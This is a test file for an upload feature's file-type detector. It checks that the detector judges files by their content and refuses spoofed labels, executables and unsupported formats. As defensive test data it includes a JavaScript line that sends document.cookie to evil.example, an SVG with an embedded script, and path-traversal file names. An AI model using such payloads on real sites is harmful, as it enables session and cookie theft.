import fs from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { detectDocumentType, FileTypeRefused } from '../../src/knowledge/file-type.js';
import * as documents from '../fixtures/documents.js';

/** reliability.md T25: the kind is decided from the bytes against an allowlist, never the label. */
const SUPPORTED = 'supported: PDF, DOCX, XLSX, PPTX, plain text, Markdown, HTML, CSV, JSON';
const text = (value: string): Uint8Array => Buffer.from(value, 'utf8');

function detect(bytes: Uint8Array, fileName = 'upload', claimedType?: string) {
  return detectDocumentType({ bytes, fileName, claimedType });
}

async function refusal(promise: Promise<unknown>): Promise<{ code: string; message: string }> {
  const error = await promise.then(
    () => new Error('detection accepted the file'),
    (reason: unknown) => reason as Error,
  );
  expect(error).toBeInstanceOf(FileTypeRefused);
  return { code: (error as FileTypeRefused).code, message: error.message };
}

describe('allowed kinds, decided from the bytes', () => {
  it.each([
    ['pdf', 'application/pdf', () => documents.textPdf()],
    ['docx', 'application/vnd.openxmlformats-officedocument.wordprocessingml.document', () => documents.docx()],
    ['xlsx', 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet', () => documents.xlsx()],
    ['pptx', 'application/vnd.openxmlformats-officedocument.presentationml.presentation', () => documents.pptx()],
  ])('%s, whatever the label says', async (kind, mimeType, make) => {
    const bytes = await make();
    expect(await detect(bytes, 'notes.txt', 'text/plain')).toEqual({ kind, mimeType });
    expect(await detect(bytes, '../../../../tmp/x', undefined)).toEqual({ kind, mimeType });
  });

  it('HTML needs a doctype, <html>, <head> or <body>; a BOM and a comment may come first', async () => {
    const expected = { kind: 'html', mimeType: 'text/html' };
    expect(await detect(text(documents.HTML_ARTICLE), 'page.txt')).toEqual(expected);
    expect(await detect(text('\uFEFF<!-- saved --> <html><p>x</p></html>'))).toEqual(expected);
    expect(await detect(text('<meta charset="utf-8"><body>x</body>'))).toEqual(expected);
    expect(await detect(text('<p>just a fragment</p>'), 'fragment.html', 'text/html')).toEqual({
      kind: 'text',
      mimeType: 'text/plain',
    });
  });

  it('JSON must parse; what does not is text', async () => {
    expect(await detect(text(documents.JSON_ARRAY), 'data.txt')).toEqual({
      kind: 'json',
      mimeType: 'application/json',
    });
    expect(await detect(text('  {"a": 1}\n'), 'x')).toEqual({ kind: 'json', mimeType: 'application/json' });
    expect(await detect(text('{"a": '), 'broken.json', 'application/json')).toEqual({
      kind: 'text',
      mimeType: 'text/plain',
    });
  });

  it('the labels choose among plain text, Markdown and CSV', async () => {
    const content = text('a;b\n1;2\n');
    expect(await detect(content, 'table.csv')).toEqual({ kind: 'csv', mimeType: 'text/csv' });
    expect(await detect(content, 'upload', 'text/csv; charset=utf-8')).toEqual({ kind: 'csv', mimeType: 'text/csv' });
    expect(await detect(content, 'README.md', 'application/octet-stream')).toEqual({
      kind: 'markdown',
      mimeType: 'text/markdown',
    });
    expect(await detect(content, 'notes', 'text/markdown')).toEqual({ kind: 'markdown', mimeType: 'text/markdown' });
    expect(await detect(content, 'notes.TXT')).toEqual({ kind: 'text', mimeType: 'text/plain' });
    expect(await detect(content, 'constructor', 'toString')).toEqual({ kind: 'text', mimeType: 'text/plain' });
    expect(await detect(content, 'x.constructor')).toEqual({ kind: 'text', mimeType: 'text/plain' });
  });

  it('UTF-16 with a byte-order mark is text', async () => {
    const utf16 = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('# Title\n\nBody', 'utf16le')]);
    expect(await detect(utf16, 'notes.md')).toEqual({ kind: 'markdown', mimeType: 'text/markdown' });
  });

  it('reads a file on disk, with a name that does not matter', async () => {
    const directory = await fs.mkdtemp(path.join(os.tmpdir(), 'parley-detect-'));
    const file = path.join(directory, 'stored-key');
    await fs.writeFile(file, await documents.textPdf());
    try {
      expect(
        await detectDocumentType({
          path: file,
          fileName: '..\\..\\windows\\x.exe',
          claimedType: 'application/x-msdownload',
        }),
      ).toEqual({ kind: 'pdf', mimeType: 'application/pdf' });
    } finally {
      await fs.rm(directory, { recursive: true });
    }
  });
});

describe('spoofed labels', () => {
  it.each([
    ['HTML', documents.HTML_ARTICLE, 'report.pdf', 'application/pdf'],
    [
      'text',
      'alert(document.cookie);\nfetch("https://evil.example/" + document.cookie);',
      'invoice.pdf',
      'application/pdf',
    ],
    [
      'an SVG image',
      '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
      'x.pdf',
      'application/pdf',
    ],
    ['JSON', '{"a": 1}', 'x.bin', 'application/pdf'],
  ])('%s labelled application/pdf is refused', async (content, bytes, fileName, claimedType) => {
    expect(await refusal(detect(text(bytes), fileName, claimedType))).toEqual({
      code: 'unsupported_file_type',
      message: `the file's content is ${content}, not the PDF its label claims`,
    });
  });

  it('text named .docx is refused against the name', async () => {
    expect(await refusal(detect(text('hello'), 'letter.docx', 'application/octet-stream'))).toEqual({
      code: 'unsupported_file_type',
      message: "the file's content is text, not the DOCX its label claims",
    });
  });
});

describe('refused types', () => {
  it.each([
    ['PNG image', () => documents.png({ width: 2, height: 2 })],
    ['Windows executable', () => Buffer.concat([Buffer.from('MZ'), Buffer.alloc(200)])],
    ['ELF executable', () => Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1]), Buffer.alloc(100)])],
    ['gzip archive', () => Buffer.from([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3, 0xff, 0x00])],
    ['ZIP archive', () => documents.rawZip([documents.storedEntry('readme.txt', 'hello')])],
    ['RTF document', () => text('{\\rtf1\\ansi Hello}')],
    ['SVG image', () => text('<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"></svg>')],
    ['XML document', () => text('<?xml version="1.0"?><note><to>Ada</to></note>')],
    ['binary data', () => Buffer.from([0x41, 0x42, 0x00, 0x43])],
  ])('%s', async (name, make) => {
    expect(await refusal(detect(await make(), 'file.pdf.png'))).toEqual({
      code: 'unsupported_file_type',
      message: `files of this type (${name}) are not supported; ${SUPPORTED}`,
    });
  });

  it.each([
    ['JavaScript', 'app.js', undefined],
    ['JavaScript', 'upload', 'text/javascript'],
    ['SVG image', 'icon.svg', undefined],
  ])('text labelled as %s', async (name, fileName, claimedType) => {
    expect(await refusal(detect(text('let x = 1;'), fileName, claimedType))).toEqual({
      code: 'unsupported_file_type',
      message: `files of this type (${name}) are not supported; ${SUPPORTED}`,
    });
  });

  it('text that is not UTF-8 is refused with advice', async () => {
    expect(await refusal(detect(Buffer.from('caf\xe9 cr\xe8me', 'latin1'), 'menu.txt'))).toEqual({
      code: 'unsupported_file_type',
      message: 'the file is neither a supported document nor UTF-8 text; save text files as UTF-8',
    });
  });

  it('an empty file is unsafe', async () => {
    expect(await refusal(detect(new Uint8Array(0), 'empty.pdf', 'application/pdf'))).toEqual({
      code: 'unsafe_file',
      message: 'the file is empty',
    });
  });
});

describe('a large text file', () => {
  const directory = path.join(os.tmpdir(), `parley-detect-large-${process.pid}`);
  beforeAll(() => fs.mkdir(directory, { recursive: true }));
  afterAll(() => fs.rm(directory, { recursive: true }));

  it('is checked to its end: a NUL byte after 3 MiB of text makes it binary', async () => {
    const file = path.join(directory, 'late-nul');
    await fs.writeFile(file, Buffer.concat([Buffer.alloc(3 * 1024 * 1024, 'a'), Buffer.from([0])]));
    expect(await refusal(detectDocumentType({ path: file, fileName: 'log.txt', claimedType: 'text/plain' }))).toEqual({
      code: 'unsupported_file_type',
      message: `files of this type (binary data) are not supported; ${SUPPORTED}`,
    });
  });

  it('keeps a multi-byte character split across read steps intact', async () => {
    const file = path.join(directory, 'split');
    await fs.writeFile(file, Buffer.concat([Buffer.alloc(1024 * 1024 - 1, 'a'), Buffer.from('é and more', 'utf8')]));
    expect(await detectDocumentType({ path: file, fileName: 'notes.txt', claimedType: undefined })).toEqual({
      kind: 'text',
      mimeType: 'text/plain',
    });
  });
});
